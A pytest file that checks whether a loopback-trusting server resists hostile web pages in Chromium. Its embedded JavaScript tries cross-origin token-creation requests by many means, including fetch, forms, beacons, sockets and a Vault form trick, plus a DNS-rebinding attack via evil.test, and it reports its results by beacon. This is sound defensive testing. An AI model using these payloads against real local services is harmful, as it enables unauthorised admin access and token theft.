"""Attacks by web pages in a real Chromium, on a server with ``--trust loopback`` on the browser's own machine.

The browser comes from a trusted address, so all that stands between a page and local-admin is what the server looks at
in a request. The browser's own guards against pages that ask for this machine are switched off.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests import browser, processes
from tests.browser import Pages, Turnable
from tests.faults.test_trust import recorded
from tests.processes import Server
from tests.vshell.waiting import eventually

NAMES = ("evil.test", "localhost.evil.test", "127.0.0.1.evil.test")


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A server that trusts loopback."""
    with processes.running(tmp_path_factory.mktemp("trusting") / "data", "--trust", "loopback") as started:
        yield started


@pytest.fixture
def pages() -> Iterator[Pages]:
    """Where the attacker's pages are."""
    with browser.pages() as serving:
        yield serving


def things(server: Server) -> list[Any]:
    """Return all that an attacker might have made or changed."""
    paths = ("/apitokens/?archived=true", "/managers/", "/roles/", "/realms/", "/nodes/", "/vms/1/")
    return [server.call("GET", path).json() for path in paths]


def granted(server: Server) -> list[Any]:
    """Return the records of what was done without a credential."""
    return [row for row in recorded(server) if row[1].startswith("trust")]


# Each attack returns what the page could read of an answer; nothing for what the browser keeps from it.
SCRIPT = """
const T = TARGETS, told = {};
const wish = JSON.stringify({owner: 'admin', name: 'stolen'});
const read = async answer => answer.type === 'opaque' ? 'opaque' : `${answer.status} ${await answer.text()}`;
const attempt = async (name, work) => {
  try { told[name] = await Promise.race([work(), new Promise(done => setTimeout(done, 5000, 'nothing came'))]); }
  catch (error) { told[name] = 'error ' + error.name; }
};
const loaded = (tag, field, url) => new Promise(done => {
  const it = document.createElement(tag);
  if (tag === 'link') it.rel = 'stylesheet';
  it.onload = () => done('loaded'); it.onerror = () => done('error'); it[field] = url;
  document.body.append(it);
});
const submitted = (url, method, encoding, fields, sandbox) => new Promise(done => {
  const frame = document.createElement('iframe');
  frame.name = 'f' + Math.random();
  if (sandbox) frame.sandbox = 'allow-forms';
  document.body.append(frame);
  const form = document.createElement('form');
  Object.assign(form, {action: url, method, enctype: encoding, target: frame.name});
  for (const [key, value] of Object.entries(fields)) {
    const input = document.createElement('input');
    input.name = key; input.value = value; form.append(input);
  }
  document.body.append(form);
  frame.onload = () => { try { done(frame.contentDocument.body.innerText); } catch (error) { done('unreadable'); } };
  form.submit();
});
const socket = url => new Promise(done => {
  const it = new WebSocket(url);
  it.onopen = () => done('open'); it.onmessage = m => done('message ' + m.data); it.onerror = () => done('error');
});
const xhr = (method, url, body, type) => new Promise(done => {
  const it = new XMLHttpRequest();
  it.onload = () => done(`${it.status} ${it.responseText}`); it.onerror = () => done('error');
  it.open(method, url); it.withCredentials = true;
  if (type) it.setRequestHeader('Content-Type', type);
  it.send(body);
});
(async () => {
  const all = [];
  const go = (name, work) => all.push(attempt(name, work));
  for (const t of T) {
    const api = t + '/api/latest', make = api + '/apitokens/';
    go(t + ' fetch get', () => fetch(api + '/login/').then(read));
    go(t + ' fetch get no-cors', () => fetch(api + '/login/', {mode: 'no-cors'}).then(read));
    go(t + ' fetch get with cookies', () =>
      fetch(api + '/login/', {mode: 'no-cors', credentials: 'include'}).then(read));
    go(t + ' fetch get no referrer', () =>
      fetch(api + '/apitokens/', {mode: 'no-cors', referrerPolicy: 'no-referrer'}).then(read));
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=b'])
      go(t + ' fetch post ' + type, () =>
        fetch(make, {method: 'POST', mode: 'no-cors', body: wish, headers: {'Content-Type': type}}).then(read));
    go(t + ' fetch post bare', () => fetch(make, {method: 'POST', mode: 'no-cors', body: new Blob([wish])}).then(read));
    for (const method of ['POST', 'PATCH', 'DELETE', 'PUT'])
      go(t + ' fetch ' + method, () => fetch(api + '/managers/2/', {method, body: '{"first_name":"x"}',
        headers: {'Content-Type': 'application/json'}}).then(read));
    go(t + ' fetch json', () => fetch(make, {method: 'POST', body: wish,
      headers: {'Content-Type': 'application/json'}}).then(read));
    go(t + ' fetch keepalive', () =>
      fetch(make, {method: 'POST', mode: 'no-cors', keepalive: true, body: wish}).then(read));
    go(t + ' beacon', async () => (navigator.sendBeacon(make, wish), 'sent'));
    go(t + ' beacon blob', async () => (navigator.sendBeacon(make, new Blob([wish], {type: 'text/plain'})), 'sent'));
    go(t + ' xhr get', () => xhr('GET', api + '/login/'));
    go(t + ' xhr post', () => xhr('POST', make, wish, 'text/plain'));
    go(t + ' xhr json', () => xhr('POST', make, wish, 'application/json'));
    go(t + ' form text', () => submitted(make, 'post', 'text/plain', {'{"owner":"admin","name":"': '"}'}));
    go(t + ' form url', () => submitted(make, 'post', 'application/x-www-form-urlencoded', {owner: 'admin'}));
    go(t + ' form multipart', () => submitted(make, 'post', 'multipart/form-data', {owner: 'admin'}));
    go(t + ' form get', () => submitted(make, 'get', '', {owner: 'admin'}));
    go(t + ' form sandboxed', () => submitted(make, 'post', 'text/plain', {'{"owner":"admin","name":"': '"}'}, true));
    go(t + ' form vault', () => submitted(t + '/v1/auth/token/create', 'post', 'text/plain', {'{"a":"': '"}'}));
    go(t + ' form vault renew', () => submitted(t + '/auth/token/create', 'post', 'text/plain', {'{"a":"': '"}'}));
    go(t + ' image', () => loaded('img', 'src', api + '/login/'));
    go(t + ' script', () => loaded('script', 'src', api + '/apitokens/'));
    go(t + ' frame', () => loaded('iframe', 'src', api + '/login/'));
    go(t + ' object', () => loaded('object', 'data', api + '/login/'));
    go(t + ' media', () => loaded('video', 'src', api + '/login/'));
    go(t + ' style', () => loaded('link', 'href', api + '/login/'));
    go(t + ' socket', () => socket(t.replace('http', 'ws') + '/api/latest/apitokens/'));
    go(t + ' events', () => new Promise(done => { const it = new EventSource(api + '/login/');
      it.onmessage = m => done('message ' + m.data); it.onerror = () => { it.close(); done('error'); }; }));
  }
  await Promise.all(all);
  navigator.sendBeacon(TELL, JSON.stringify(told));
})();
"""


def page(pages: Pages, *targets: str) -> str:
    """Return a page that attacks these origins; it tells what it reached by its own origin."""
    script = SCRIPT.replace("TARGETS", json.dumps(targets)).replace("TELL", f"'http://127.0.0.1:{pages.port}/told'")
    return f"<!doctype html><html><head><title>page</title></head><body><script>{script}</script></body></html>"


def test_a_page_from_another_origin_reaches_nothing(server: Server, pages: Pages, tmp_path: Path) -> None:
    port = server.url.rpartition(":")[2]
    before, refusals = things(server), len(recorded(server))
    pages.pages["/"] = page(pages, f"http://127.0.0.1:{port}", f"http://localhost:{port}")
    with browser.visiting(f"http://evil.test:{pages.port}/", tmp_path, "evil.test"):
        told = pages.wait()
    assert len(told) == 2 * 34, sorted(told)
    may = {"opaque", "error", "sent", "loaded", "unreadable", "nothing came"}
    read = {name: said for name, said in told.items() if said not in may and not said.startswith("error ")}
    assert read == {}
    assert (things(server), granted(server)) == (before, [])
    # They did arrive, from the trusted address, and were refused.
    new = recorded(server)[refusals:]
    assert {row[2] for row in new if "not_trusted" in row[4]} >= {"session.show", "apitoken.list", "apitoken.create"}


@pytest.mark.parametrize("name", NAMES)
def test_a_page_whose_name_is_rebound_to_this_machine_reaches_nothing(
    server: Server, pages: Pages, tmp_path: Path, name: str
) -> None:
    """To the browser the page and the server are one origin now, so only the Host tells them apart."""
    before = things(server)
    turnable = Turnable(pages.port)
    try:
        origin = f"http://{name}:{turnable.port}"
        # The page turns the name when it has been read, and begins when the server is behind it.
        waiting = (
            "const turned = async () => { for (;;) { try { const a = await fetch('/healthz', {cache: 'no-store'});"
        )
        waiting += " if ((a.headers.get('Content-Type') || '').includes('json')) return; } catch (e) {} } };"
        attack = page(pages, origin).replace("(async () => {", f"{waiting} (async () => {{ await turned();", 1)
        pages.pages["/"] = attack + f"<script>navigator.sendBeacon('http://127.0.0.1:{pages.port}/told', '1')</script>"
        with browser.visiting(f"{origin}/", tmp_path, name):
            assert pages.wait() == 1
            turnable.turn(int(server.url.rpartition(":")[2]))
            told = pages.wait()
    finally:
        turnable.close()
    answered = {key: said for key, said in told.items() if "fetch" in key or "xhr" in key}
    assert {said[:4] for said in answered.values()} <= {"401 ", "404 ", "405 "}, answered
    assert all("the address is trusted, but" in said for said in answered.values() if said.startswith("401"))
    # To its own origin Chromium looks without Origin or Sec-Fetch-*: nothing but the Host speaks against it.
    assert sum(f'its Host \\"{name}:' in said for said in answered.values()) == 5, answered
    assert not any('"local-admin"' in said for said in told.values())
    assert (things(server), granted(server)) == (before, [])


def test_a_person_who_is_led_to_the_server_does_nothing_as_local_admin(
    server: Server, pages: Pages, tmp_path: Path
) -> None:
    """A link, a redirection and a new window are navigations: the browser says so."""
    before, seen = things(server), len(recorded(server))
    pages.pages["/"] = (
        f"<script>open('{server.url}/api/latest/apitokens/');"
        f"setTimeout(() => location = '{server.url}/api/latest/realms/', 300)</script>"
    )
    with browser.visiting(f"http://evil.test:{pages.port}/", tmp_path, "evil.test"):
        eventually(lambda: "realm.list" in {row[2] for row in recorded(server)[seen:]})
    assert (things(server), granted(server)) == (before, [])
